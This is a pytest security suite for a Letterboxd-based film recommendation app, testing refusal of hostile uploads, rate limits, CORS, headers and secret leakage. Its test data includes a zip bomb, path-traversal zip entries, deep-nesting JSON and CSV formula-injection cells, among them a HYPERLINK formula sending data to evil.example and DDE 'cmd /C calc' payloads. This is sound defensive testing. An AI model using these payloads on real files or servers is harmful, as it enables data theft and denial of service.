"""Hostile input and what the app gives away: uploads, ids, per-client limits, headers, CORS and secrets."""
from __future__ import annotations

import base64
import csv
import gc
import io
import logging
import os
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from pathlib import Path
from typing import Iterator

import pytest
import redis
import requests
from bs4 import BeautifulSoup

from tests.fakes import API_KEY, FakeUpstreams
from tests.support.gunicorn import Gunicorn
from tests.support.redis_server import RedisServer
from tests.support.runs import fetch_result, follow, recommend, start_run
from tests.support.sse import read_stream
from tests.support.var import copy_var

ROOT = Path(__file__).resolve().parents[2]
UPLOAD_LIMIT_MB = 0.25
INTERNAL_TOKEN = "internal-token-7d1f9c0b2e"
REDIS_PASSWORD = "redis-pass-4b8e1a6f"
GET_PAGES_PER_MINUTE = 10
FAKE_WORLD = {"popular_members": 10}

pytestmark = pytest.mark.usefixtures("calm_fakes")


# ----- fixtures ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def app(start_app, fakes):
    """Limits off, a small upload limit, Letterboxd on the fakes, TMDB off (nothing is written to the store)."""
    return start_app({"ratelimit_enabled": False, "max_upload_mb": UPLOAD_LIMIT_MB,
                      "letterboxd_base_url": fakes.letterboxd.url})


@pytest.fixture(scope="module")
def limited_app(start_app, fakes):
    """Rate limits on: two open streams and one running job per client."""
    return start_app({"ratelimit_enabled": True, "max_streams_per_client": 2, "max_active_jobs_per_client": 1,
                      "letterboxd_base_url": fakes.letterboxd.url})


@pytest.fixture(scope="module")
def unlimited_app(start_app, fakes):
    """The same limits, lifted by RATELIMIT_ENABLED=false."""
    return start_app({"ratelimit_enabled": False, "max_streams_per_client": 2, "max_active_jobs_per_client": 1,
                      "letterboxd_base_url": fakes.letterboxd.url})


def store_state(facade) -> tuple:
    """What the store holds: its version, film count and collected rows."""
    store = facade.store
    return store.version(), len(store.films()), tuple(sorted(store.collected_counts().items()))


def tree(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*") if not p.name.endswith(("-wal", "-shm"))}


# ----- hostile uploads ---------------------------------------------------------------------------


def zip_of(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


RATINGS = b"Date,Name,Year,Letterboxd URI,Rating\n2024-01-01,Inception,2010,https://boxd.it/abc,4\n"
TRAVERSAL_NAME = f"lbr-escape-{uuid.uuid4().hex[:8]}.csv"


def zip_bomb() -> bytes:
    """A ratings.csv of 64 MB of zeros, deflated to about 64 KB."""
    return zip_of({"ratings.csv": b"Name,Year,Rating\n" + b"0" * (64 * 1024 * 1024)})


def zip_that_understates_its_size() -> bytes:
    """An entry whose headers claim 1 KB while its data inflates to megabytes."""
    body = b"Name,Year,Rating\n" + b"Inception,2010,4\n" * 400_000
    data = bytearray(zip_of({"ratings.csv": body}))
    claimed = (1024).to_bytes(4, "little")
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    data[local + 22: local + 26] = claimed
    data[central + 24: central + 28] = claimed
    return bytes(data)


BAD_UPLOADS = {
    "a zip bomb": ("export.zip", zip_bomb),
    "a zip whose headers understate its size": ("export.zip", zip_that_understates_its_size),
    "a ../ path in the zip": ("export.zip", lambda: zip_of({f"../../{TRAVERSAL_NAME}": RATINGS,
                                                           "ratings.csv": RATINGS})),
    "a nested ../ path in the zip": ("export.zip", lambda: zip_of({f"export/../../{TRAVERSAL_NAME}": RATINGS})),
    "an absolute path in the zip": ("export.zip", lambda: zip_of({f"/tmp/{TRAVERSAL_NAME}": RATINGS})),
    "a drive letter path in the zip": ("export.zip", lambda: zip_of({f"C:\\temp\\{TRAVERSAL_NAME}": RATINGS})),
    "a csv neither utf-8 nor windows-1252": ("ratings.csv", lambda: b"Name,Year,Rating\nAm\x81\x8dlie,2001,4\n"),
    "a utf-16 csv": ("ratings.csv", lambda: "Name,Year,Rating\nAmélie,2001,4\n".encode("utf-16")),
    "a csv with NUL bytes": ("ratings.csv", lambda: b"Name,Year,Rating\n\x00\x00\x00,2001,4\n"),
    "an empty file": ("ratings.csv", lambda: b""),
    "an empty zip": ("export.zip", lambda: b""),
    "a non-zip named .zip": ("export.zip", lambda: b"%PDF-1.7 definitely not a zip " * 20),
    "a truncated zip": ("export.zip", lambda: zip_of({"ratings.csv": RATINGS})[:40]),
    "a zip with no export files": ("export.zip", lambda: zip_of({"notes.txt": b"hello"})),
    "a csv that is not an export": ("data.csv", lambda: b"a,b,c\n1,2,3\n"),
    "an upload just over the limit": ("ratings.csv",
                                      lambda: RATINGS + b"x" * int(UPLOAD_LIMIT_MB * 1024 * 1024)),
}


@pytest.mark.timeout(60, func_only=True)
@pytest.mark.parametrize("kind", list(BAD_UPLOADS))
def test_a_bad_upload_is_refused_in_the_error_shape_and_nothing_is_written(app, shared_var, kind):
    filename, make = BAD_UPLOADS[kind]
    data = make()
    before, files_before = store_state(app.facade), tree(shared_var)
    r = requests.post(f"{app.url}/api/recommend", files={"export": (filename, data)},
                      data={"include_streaming": "false"}, timeout=30)
    assert r.status_code in (400, 413), (kind, r.status_code, r.text[:300])
    body = r.json()
    assert set(body) == {"error", "message"} and body["message"]
    assert body["error"] == ("upload_too_large" if r.status_code == 413 else "invalid_upload")
    assert store_state(app.facade) == before
    assert tree(shared_var) == files_before
    for folder in (ROOT, ROOT / "var", shared_var, shared_var.parent, Path("/tmp")):
        assert not (folder / TRAVERSAL_NAME).exists()


@pytest.mark.timeout(30, func_only=True)
def test_a_request_body_over_the_limit_is_refused_before_it_is_read(app):
    r = requests.post(f"{app.url}/api/recommend",
                      files={"export": ("export.zip", b"0" * int(UPLOAD_LIMIT_MB * 4 * 1024 * 1024))}, timeout=30)
    assert r.status_code == 413
    assert set(r.json()) == {"error", "message"} and f"{UPLOAD_LIMIT_MB:g} MB" in r.json()["message"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "=1+1*7",  # no film is called "1 1 7" ("=1+1" is the 2006 film "1:1", a year off)
]


def formula_export() -> bytes:
    """ratings.csv with a few real films and cells that spreadsheets would run as formulas."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["Date", "Name", "Year", "Letterboxd URI", "Rating"])
    for i, (title, year) in enumerate([("Inception", 2010), ("Pulp Fiction", 1994), ("Fight Club", 1999)]):
        writer.writerow([f"2024-01-0{i + 1}", title, year, f"https://boxd.it/a{i}", 4])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([f"2024-02-0{i + 1}", formula, 2001 + i, f"https://boxd.it/f{i}", 3])
    profile = "Date Joined,Username,Given Name\n2020-01-01,=cmd|' /C calc'!A0,=1+1\n"
    return zip_of({"ratings.csv": out.getvalue().encode(), "profile.csv": profile.encode()})


@pytest.mark.timeout(60, func_only=True)
def test_formula_cells_are_echoed_back_as_plain_text_never_evaluated(app):
    r = requests.post(f"{app.url}/api/recommend", files={"export": ("export.zip", formula_export())},
                      data={"sync": "true", "include_streaming": "false", "count": "5"}, timeout=60)
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"].startswith("application/json")
    body = r.json()
    unmatched = {(u["name"], u["year"]) for u in body["profile"]["unmatched"]}
    assert {(f, 2001 + i) for i, f in enumerate(FORMULAS)} <= unmatched
    assert not any(u["name"] in ("2", "1", "Click me") for u in body["profile"]["unmatched"])
    assert "=" not in body["username"] and "'" not in body["username"] and " " not in body["username"]


# ----- request ids and streams -----------------------------------------------------------------


def decoded_bits(request_id: str) -> int:
    padded = request_id + "=" * (-len(request_id) % 4)
    return len(base64.urlsafe_b64decode(padded)) * 8


@pytest.mark.timeout(60, func_only=True)
def test_server_chosen_request_ids_carry_at_least_128_random_bits_and_never_repeat(app):
    ids = [start_run(app.url, username="nobody_by_this_name") for _ in range(12)]
    assert len(set(ids)) == len(ids)
    for request_id in ids:
        assert set(request_id) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
        assert decoded_bits(request_id) >= 128
    shared_prefix = max(len(os.path.commonprefix([a, b])) for a in ids for b in ids if a != b)
    assert shared_prefix < 6, "ids look sequential"


@pytest.mark.timeout(60, func_only=True)
def test_a_stream_yields_only_its_own_jobs_events(app, sample_export):
    def start(count: int) -> str:
        r = requests.post(f"{app.url}/api/recommend", files={"export": ("export.zip", sample_export)},
                          data={"include_streaming": "false", "count": str(count)}, timeout=30)
        assert r.status_code == 202, r.text
        return r.json()["request_id"]

    started = time.monotonic()
    first, second = start(3), start(7)
    outcomes = {}
    threads = [threading.Thread(target=lambda rid=rid: outcomes.__setitem__(rid, follow(app.url, rid, started)))
               for rid in (first, second)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    for rid, count in ((first, 3), (second, 7)):
        outcome = outcomes[rid]
        assert outcome.status == 200
        assert len(outcome.cards) == count
        assert [c["film_id"] for c in outcome.cards] == [x["film_id"] for x in outcome.body["recommendations"]]
        assert outcome.body["request_id"] == rid
        done = [e.data["message"] for e in outcome.streams["status"] if e.data.get("step") == "done"]
        assert done == [f"Found {count} recommendations"]


# ----- per-client limits -------------------------------------------------------------------------


def open_stream(base: str, channel: str, request_id: str) -> requests.Response:
    return requests.get(f"{base}/api/{channel}-stream", params={"request_id": request_id},
                        headers={"Accept": "text/event-stream"}, stream=True, timeout=10)


def wait_for_streams_to_close(server, client: str = "127.0.0.1", limit_s: float = 15) -> None:
    """Streams a test closed hold their places until the server notices: the next test starts without them."""
    deadline = time.monotonic() + limit_s
    while server.facade.streams.slots.held(client) and time.monotonic() < deadline:
        time.sleep(0.1)


def slow_letterboxd(fakes: FakeUpstreams, seconds: float = 1.5) -> None:
    """Each Letterboxd answer takes long enough that a run is still going while the test acts."""
    fakes.letterboxd.control.set(latency_s=seconds)


@pytest.mark.timeout(60, func_only=True)
def test_running_jobs_per_client_are_limited_and_the_slot_frees_when_a_job_ends(limited_app, fakes):
    slow_letterboxd(fakes)
    started = time.monotonic()
    first = start_run(limited_app.url, username="member001")
    second = requests.post(f"{limited_app.url}/api/recommend", json={"username": "member002"}, timeout=15)
    assert second.status_code == 429
    assert second.json()["error"] == "too_many_jobs" and set(second.json()) == {"error", "message"}
    fakes.letterboxd.control.set(latency_s=0)
    # Read the stream to the end rather than poll the result, which is itself rate limited.
    assert read_stream(limited_app.url, "status", first)[-1].data == {"status": "complete"}
    assert fetch_result(limited_app.url, first, started + 30)[0] == 200
    third = requests.post(f"{limited_app.url}/api/recommend", json={"username": "member003"}, timeout=15)
    assert third.status_code == 202
    assert read_stream(limited_app.url, "status", third.json()["request_id"])[-1].data == {"status": "complete"}


@pytest.mark.timeout(60, func_only=True)
def test_a_client_at_its_job_limit_is_refused_before_its_upload_is_read(limited_app, fakes):
    slow_letterboxd(fakes)
    first = start_run(limited_app.url, username="member008")
    r = requests.post(f"{limited_app.url}/api/recommend", files={"export": ("export.zip", b"not a zip at all")},
                      data={"sync": "true"}, timeout=15)
    assert r.status_code == 429 and r.json()["error"] == "too_many_jobs", "refused before the upload was read"
    fakes.letterboxd.control.set(latency_s=0)
    assert read_stream(limited_app.url, "status", first)[-1].data == {"status": "complete"}


@pytest.fixture(scope="module")
def one_pipeline_app(start_app, fakes):
    """One pipeline thread: a sync upload must wait for it like any job."""
    return start_app({"ratelimit_enabled": False, "pipeline_pool_size": 1, "letterboxd_base_url": fakes.letterboxd.url})


@pytest.mark.timeout(60, func_only=True)
def test_sync_uploads_run_in_the_same_bounded_pool_as_jobs(one_pipeline_app, fakes, sample_export):
    slow_letterboxd(fakes)
    running = start_run(one_pipeline_app.url, username="member009")

    r = requests.post(f"{one_pipeline_app.url}/api/recommend", files={"export": ("export.zip", sample_export)},
                      data={"sync": "true", "include_streaming": "false"}, timeout=60)

    assert r.status_code == 200
    status, _ = fetch_result(one_pipeline_app.url, running, 0)
    assert status != 202, "the sync upload ran only once the pool's one thread was free"
    fakes.letterboxd.control.set(latency_s=0)


@pytest.mark.timeout(60, func_only=True)
def test_a_dropped_stream_gives_its_place_back_even_when_nothing_collects_it(limited_app, fakes):
    """The server may drop a connection without closing its response (the development server does,
    when the client resets it): the stream's slot then lapses instead of waiting for the collector."""
    slow_letterboxd(fakes, 4.0)
    request_id = start_run(limited_app.url, username="member003")
    gc.collect()
    gc.disable()
    held = []
    try:
        held = [open_stream(limited_app.url, ch, request_id) for ch in ("status", "logs")]
        assert [r.status_code for r in held] == [200, 200]
        held.pop().close()
        deadline = time.monotonic() + 15
        while (again := open_stream(limited_app.url, "recommendations", request_id)).status_code != 200:
            assert again.status_code == 429 and time.monotonic() < deadline, "the dropped stream's place came back"
            time.sleep(0.5)
        held.append(again)
    finally:
        gc.enable()
        for r in held:
            r.close()
        fakes.letterboxd.control.set(latency_s=0)
        fetch_result(limited_app.url, request_id, time.monotonic() + 30)  # the client's one job ends
        wait_for_streams_to_close(limited_app)


@pytest.mark.timeout(60, func_only=True)
def test_open_streams_per_client_are_limited_and_a_closed_stream_frees_its_place(limited_app, fakes):
    slow_letterboxd(fakes, 4.0)
    request_id = start_run(limited_app.url, username="member004")
    held = [open_stream(limited_app.url, ch, request_id) for ch in ("status", "logs")]
    try:
        assert [r.status_code for r in held] == [200, 200]
        third = open_stream(limited_app.url, "recommendations", request_id)
        assert third.status_code == 429 and third.json()["error"] == "too_many_streams"
        held.pop().close()
        deadline = time.monotonic() + 10
        while True:
            again = open_stream(limited_app.url, "recommendations", request_id)
            if again.status_code == 200 or time.monotonic() > deadline:
                break
            time.sleep(0.5)
        held.append(again)
        assert again.status_code == 200, "the closed stream's place was given back"
    finally:
        for r in held:
            r.close()
        fakes.letterboxd.control.set(latency_s=0)
        wait_for_streams_to_close(limited_app)


@pytest.mark.timeout(60, func_only=True)
def test_ratelimit_enabled_false_lifts_the_job_and_stream_limits(unlimited_app, fakes):
    slow_letterboxd(fakes)
    ids = [start_run(unlimited_app.url, username=f"member00{i}") for i in (5, 6, 7)]
    streams = [open_stream(unlimited_app.url, ch, rid) for rid in ids for ch in ("status", "logs")]
    try:
        assert [r.status_code for r in streams] == [200] * 6
    finally:
        for r in streams:
            r.close()
        fakes.letterboxd.control.set(latency_s=0)


@pytest.fixture()
def limiter_db(redis_url) -> Iterator[str]:
    """A Redis database of its own for the shared rate-limit counters."""
    url = redis_url.rsplit("/", 1)[0] + "/7"
    client = redis.Redis.from_url(url)
    client.flushdb()
    yield url
    client.flushdb()
    client.close()


@pytest.mark.timeout(150, func_only=True)
def test_rate_limits_hold_across_two_gunicorn_processes_sharing_redis(limiter_db, shared_var, live_app, tmp_path):
    """Two gunicorn masters on their own ports, one Redis: requests alternate, the limit is shared.

    Two servers rather than two workers of one: which worker of a shared socket accepts a
    connection is the kernel's choice, so only separate ports prove both processes answered."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("GUNICORN")}
    env.update({"REDIS_URL": limiter_db, "VAR_DIR": str(shared_var), "RATELIMIT_ENABLED": "true", "TMDB_KEY": "",
                "LETTERBOXD_BASE_URL": "http://127.0.0.1:9", "TMDB_BASE_URL": "http://127.0.0.1:9/3",
                "LOG_LEVEL": "WARNING", "WEB_CONCURRENCY": "1", "GUNICORN_THREADS": "8"})
    servers = [Gunicorn(env, workers=1, log=tmp_path / f"access-{i}.log") for i in (0, 1)]
    try:
        for server in servers:
            server.wait_ready()
        codes = [requests.post(f"{servers[i % 2].url}/api/get_pages", json={"username": "bad name"},
                               headers={"Connection": "close"}, timeout=10).status_code
                 for i in range(GET_PAGES_PER_MINUTE + 2)]
        assert codes[:GET_PAGES_PER_MINUTE] == [400] * GET_PAGES_PER_MINUTE
        assert codes[GET_PAGES_PER_MINUTE:] == [429, 429]
        pids = [set(server.pids_for("/api/get_pages")) for server in servers]
        assert all(len(p) == 1 for p in pids) and pids[0] != pids[1], "each process answered its share"
        assert redis.Redis.from_url(limiter_db).keys("*get_pages*"), "the counters live in Redis"
    finally:
        for server in servers:
            server.stop()


# ----- operator endpoint, CORS, headers ----------------------------------------------------------


@pytest.fixture(scope="module")
def guarded_app(start_app):
    return start_app({"ratelimit_enabled": False, "internal_token": INTERNAL_TOKEN,
                      "cors_origins": ("https://friend.example",)})


@pytest.mark.timeout(30, func_only=True)
@pytest.mark.parametrize("header", [
    None, "", "wrong", INTERNAL_TOKEN[:-1], INTERNAL_TOKEN + " ", INTERNAL_TOKEN.upper(),
    pytest.param("t\u00e9st".encode("latin-1"), id="non-ascii"),
])
def test_incident_status_refuses_any_but_its_token(guarded_app, header):
    headers = {} if header is None else {"X-Internal-Token": header}
    r = requests.get(f"{guarded_app.url}/_incident-status", headers=headers, timeout=10)
    assert r.status_code == 401
    assert set(r.json()) == {"error", "message"} and INTERNAL_TOKEN not in r.text


@pytest.mark.timeout(30, func_only=True)
def test_incident_status_answers_with_its_token(guarded_app):
    r = requests.get(f"{guarded_app.url}/_incident-status", headers={"X-Internal-Token": INTERNAL_TOKEN},
                     timeout=10)
    assert r.status_code == 200 and "letterboxd_circuit_open" in r.json()


def preflight(base: str, origin: str) -> requests.Response:
    return requests.options(f"{base}/api/recommend", headers={
        "Origin": origin, "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "Content-Type"}, timeout=10)


@pytest.mark.timeout(30, func_only=True)
def test_cors_allows_exactly_the_configured_origins(guarded_app, app):
    allowed = preflight(guarded_app.url, "https://friend.example")
    assert allowed.headers.get("Access-Control-Allow-Origin") == "https://friend.example"
    for origin in ("https://evil.example", "https://friend.example.evil.example", "null"):
        assert "Access-Control-Allow-Origin" not in preflight(guarded_app.url, origin).headers
    for origin in ("https://friend.example", "http://127.0.0.1"):
        assert "Access-Control-Allow-Origin" not in preflight(app.url, origin).headers, "none configured: none"


def script_sources(csp: str) -> list[str]:
    directives = {part.split()[0]: part.split()[1:] for part in csp.split(";") if part.strip()}
    return directives.get("script-src", directives.get("default-src", []))


@pytest.mark.timeout(30, func_only=True)
@pytest.mark.parametrize("path", ["/", "/results", "/some_member", "/api/openapi.json", "/_health",
                                  "/api/result?request_id=unknown-request-1234", "/no/such/page"])
def test_every_answer_carries_the_security_headers(app, path):
    r = requests.get(f"{app.url}{path}", timeout=10)
    csp = r.headers["Content-Security-Policy"]
    sources = script_sources(csp)
    assert "'self'" in sources
    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"} & set(sources)
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["X-Frame-Options"] == "DENY"
    assert r.headers["Referrer-Policy"] in ("no-referrer", "strict-origin-when-cross-origin", "same-origin")


@pytest.mark.timeout(30, func_only=True)
@pytest.mark.parametrize("path", ["/", "/results", "/some_member"])
def test_pages_hold_no_inline_script_the_policy_would_block(app, path):
    soup = BeautifulSoup(requests.get(f"{app.url}{path}", timeout=10).text, "html.parser")
    assert all(tag.get("src") and not tag.string for tag in soup.find_all("script"))
    handlers = [(tag.name, attr) for tag in soup.find_all(True) for attr in tag.attrs if attr.lower().startswith("on")]
    assert handlers == []
    assert not soup.find_all(href=lambda v: v and v.strip().lower().startswith("javascript:"))


# ----- numbers, nesting, stream ids, cross-site posts, health -------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.timeout(60, func_only=True)
@pytest.mark.parametrize("body", ['{"username": "alice", "count": 1e400}', '{"username": "alice", "count": Infinity}',
                                  '{"username": "alice", "count": NaN}', '{"username": "alice", "count": -Infinity}',
                                  '{"username": "alice", "filters": {"max_runtime": 1e999}}',
                                  '{"username": "alice", "filters": ' + DEEP + "}", DEEP])
def test_extreme_numbers_and_deep_nesting_in_a_json_body_are_a_400(app, body):
    r = requests.post(f"{app.url}/api/recommend", data=body, headers={"Content-Type": "application/json"},
                      timeout=30)
    assert r.status_code == 400, r.text
    assert set(r.json()) == {"error", "message"}


@pytest.mark.timeout(60, func_only=True)
def test_deep_nesting_in_multipart_filters_and_in_get_pages_is_a_400(app, sample_export):
    r = requests.post(f"{app.url}/api/recommend", files={"export": ("e.zip", sample_export)},
                      data={"filters": DEEP, "sync": "true"}, timeout=30)
    assert r.status_code == 400 and r.json()["error"] == "invalid_filters"
    r = requests.post(f"{app.url}/api/get_pages", data='{"username": ' + DEEP + "}",
                      headers={"Content-Type": "application/json"}, timeout=30)
    assert r.status_code == 400 and r.json()["error"] == "invalid_json"


@pytest.mark.timeout(60, func_only=True)
@pytest.mark.parametrize("last_id", ["abc-def", "1-x", "99999999999999999999-0", "-"])
def test_a_last_event_id_redis_cannot_read_is_treated_as_none(live_app_redis, sample_export, last_id):
    r = requests.post(f"{live_app_redis.url}/api/recommend", files={"export": ("e.zip", sample_export)},
                      data={"include_streaming": "false"}, timeout=30)
    request_id = r.json()["request_id"]
    complete = read_stream(live_app_redis.url, "status", request_id)

    replay = read_stream(live_app_redis.url, "status", request_id, last_event_id=last_id)

    assert [e.id for e in replay] == [e.id for e in complete] and replay[-1].data == {"status": "complete"}


@pytest.mark.timeout(30, func_only=True)
@pytest.mark.parametrize("headers", [{"Origin": "https://evil.example"}, {"Origin": "null"},
                                     {"Sec-Fetch-Site": "cross-site"},
                                     {"Origin": "https://friend.example.evil.example"}])
def test_cross_site_posts_are_refused(guarded_app, headers):
    r = requests.post(f"{guarded_app.url}/api/get_pages", json={"username": "bad name"}, headers=headers,
                      timeout=10)
    assert r.status_code == 403 and r.json()["error"] == "cross_site_request"


@pytest.mark.timeout(30, func_only=True)
def test_posts_from_this_site_from_listed_origins_and_from_scripts_are_served(guarded_app):
    for headers in ({"Origin": guarded_app.url, "Sec-Fetch-Site": "same-origin"}, {"Origin": "https://friend.example"},
                    {}, {"Sec-Fetch-Site": "none"}):
        r = requests.post(f"{guarded_app.url}/api/get_pages", json={"username": "bad name"}, headers=headers,
                          timeout=10)
        assert r.status_code == 400 and r.json()["error"] == "invalid_username", headers


@pytest.mark.timeout(30, func_only=True)
def test_the_incident_counters_are_guarded_alike_on_health_and_incident_status(guarded_app, app):
    assert "incident" not in requests.get(f"{guarded_app.url}/_health", timeout=10).json()
    with_token = requests.get(f"{guarded_app.url}/_health", headers={"X-Internal-Token": INTERNAL_TOKEN}, timeout=10)
    assert with_token.json()["incident"] == requests.get(
        f"{guarded_app.url}/_incident-status", headers={"X-Internal-Token": INTERNAL_TOKEN}, timeout=10).json()
    open_health = requests.get(f"{app.url}/_health", timeout=10).json()
    assert open_health["incident"] == requests.get(f"{app.url}/_incident-status", timeout=10).json()


# ----- behind a proxy ----------------------------------------------------------------------------


def get_pages_codes(base: str, forwarded: list[str]) -> list[int]:
    """Statuses of get_pages (10 a minute per client) sent with each X-Forwarded-For in turn."""
    return [requests.post(f"{base}/api/get_pages", json={"username": "bad name"},
                          headers={"X-Forwarded-For": value}, timeout=10).status_code for value in forwarded]


@pytest.fixture()
def direct(start_app):
    return start_app({"ratelimit_enabled": True})


@pytest.fixture()
def proxied(start_app):
    return start_app({"ratelimit_enabled": True, "trusted_proxies": 1})


@pytest.fixture()
def proxied_twice(start_app):
    return start_app({"ratelimit_enabled": True, "trusted_proxies": 2})


@pytest.mark.timeout(60, func_only=True)
def test_forwarded_headers_are_ignored_when_no_proxy_is_trusted(direct):
    codes = get_pages_codes(direct.url, [f"198.51.100.{i}" for i in range(GET_PAGES_PER_MINUTE + 1)])
    assert codes == [400] * GET_PAGES_PER_MINUTE + [429], "every claimed address shares the one real address"
    https = requests.get(f"{direct.url}/_health", headers={"X-Forwarded-Proto": "https"}, timeout=10)
    assert "Strict-Transport-Security" not in https.headers


@pytest.mark.timeout(60, func_only=True)
def test_one_trusted_proxy_gives_each_client_its_own_limits_and_only_the_last_hop_counts(proxied):
    first = get_pages_codes(proxied.url, ["203.0.113.7, 198.51.100.1"] * (GET_PAGES_PER_MINUTE + 1))
    assert first == [400] * GET_PAGES_PER_MINUTE + [429]
    assert get_pages_codes(proxied.url, ["203.0.113.7, 198.51.100.2"]) == [400], "another client, its own limit"
    assert get_pages_codes(proxied.url, ["203.0.113.99, 198.51.100.1"]) == [429], "a spoofed first hop is ignored"
    https = requests.get(f"{proxied.url}/_health", headers={"X-Forwarded-Proto": "https"}, timeout=10)
    assert https.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    plain = requests.get(f"{proxied.url}/_health", headers={"X-Forwarded-Proto": "http"}, timeout=10)
    assert "Strict-Transport-Security" not in plain.headers


@pytest.mark.timeout(60, func_only=True)
def test_two_trusted_proxies_read_the_second_hop_from_the_right(proxied_twice):
    proxied = proxied_twice
    codes = get_pages_codes(proxied.url, [f"198.51.100.5, 10.0.0.{i}" for i in range(GET_PAGES_PER_MINUTE + 1)])
    assert codes == [400] * GET_PAGES_PER_MINUTE + [429], "the inner proxy's address is not the client"
    assert get_pages_codes(proxied.url, ["198.51.100.6, 10.0.0.1"]) == [400]


# ----- secrets -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def locked_redis(tmp_path_factory) -> Iterator[RedisServer]:
    server = RedisServer(tmp_path_factory.mktemp("locked-redis")).start()
    redis.Redis(port=server.port).config_set("requirepass", REDIS_PASSWORD)
    yield server
    server.stop()


@pytest.fixture(scope="module")
def secret_var(live_app, shared_var, tmp_path_factory) -> Path:
    return copy_var(shared_var, tmp_path_factory.mktemp("secret-var"))


@pytest.fixture(scope="module")
def secret_app(start_app, fakes, locked_redis, secret_var):
    """TMDB on with its key, an internal token and a password-protected Redis."""
    return start_app({**fakes.settings_overrides(), "var_dir": secret_var, "ratelimit_enabled": False,
                      "internal_token": INTERNAL_TOKEN, "log_level": "INFO",
                      "redis_url": f"redis://:{REDIS_PASSWORD}@127.0.0.1:{locked_redis.port}/0"})


SECRETS = (API_KEY, INTERNAL_TOKEN, REDIS_PASSWORD)


def exposed(texts: list[str]) -> list[str]:
    return [secret for secret in SECRETS for text in texts if secret in text]


def every_kind_of_answer(base: str, sample_export: bytes) -> list[str]:
    """Drive a run of each kind and the operator endpoints; return every status line, header and body."""
    seen: list[requests.Response] = []
    outcome = recommend(base, username="cinephile", include_streaming=True, country="US", count=5)
    assert outcome.status == 200
    texts = [str(e.data) for events in outcome.streams.values() for e in events] + [str(outcome.body)]
    seen.append(requests.post(f"{base}/api/recommend", files={"export": ("export.zip", sample_export)},
                              data={"sync": "true", "count": "5"}, timeout=60))
    seen.append(requests.post(f"{base}/api/recommend", json={"username": "nobody_by_this_name", "sync": True},
                              timeout=30))
    seen.append(requests.post(f"{base}/api/get_pages", json={"username": "cinephile"}, timeout=30))
    seen.append(requests.get(f"{base}/_health", timeout=10))
    seen.append(requests.get(f"{base}/_incident-status", headers={"X-Internal-Token": INTERNAL_TOKEN}, timeout=10))
    seen.append(requests.get(f"{base}/_incident-status", timeout=10))
    seen.append(requests.get(f"{base}/api/result", params={"request_id": outcome.request_id}, timeout=10))
    seen.append(requests.post(f"{base}/api/recommend", data=b"{", headers={"Content-Type": "application/json"},
                              timeout=10))
    texts += [f"{r.status_code} {dict(r.headers)} {r.text}" for r in seen]
    return texts


@pytest.mark.timeout(120, func_only=True)
def test_no_secret_reaches_a_response_or_the_logs_during_runs_with_tmdb_on(secret_app, fakes, sample_export,
                                                                           caplog):
    caplog.set_level(logging.INFO)
    asked = fakes.tmdb.control.count("/3/")
    texts = every_kind_of_answer(secret_app.url, sample_export)
    assert fakes.tmdb.control.count("/3/") > asked, "TMDB was used (and so had a key to leak)"
    assert secret_app.facade.link.ping(), "the password-protected Redis is in use"
    assert exposed(texts) == []
    assert exposed([caplog.text] + [str(r.args) for r in caplog.records]) == []


@pytest.mark.timeout(120, func_only=True)
def test_no_secret_reaches_the_logs_even_at_debug_level(secret_app, sample_export, caplog):
    caplog.set_level(logging.DEBUG)
    every_kind_of_answer(secret_app.url, sample_export)
    assert exposed([caplog.text]) == []


@pytest.mark.timeout(120, func_only=True)
def test_the_command_line_prints_no_secret(fakes, locked_redis, secret_var, tmp_path):
    export = tmp_path / "export.zip"
    export.write_bytes((ROOT / "tests" / "data" / "sample_export.zip").read_bytes())
    env = {**os.environ, **fakes.env(), "VAR_DIR": str(secret_var), "INTERNAL_TOKEN": INTERNAL_TOKEN,
           "REDIS_URL": f"redis://:{REDIS_PASSWORD}@127.0.0.1:{locked_redis.port}/0", "LOG_LEVEL": "INFO"}
    done = subprocess.run([sys.executable, "main.py", "recommend", "--export", str(export), "--count", "5",
                           "--country", "US", "--json"], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=110)
    assert done.returncode == 0, done.stderr[-2000:]
    assert '"recommendations"' in done.stdout
    assert exposed([done.stdout, done.stderr]) == []
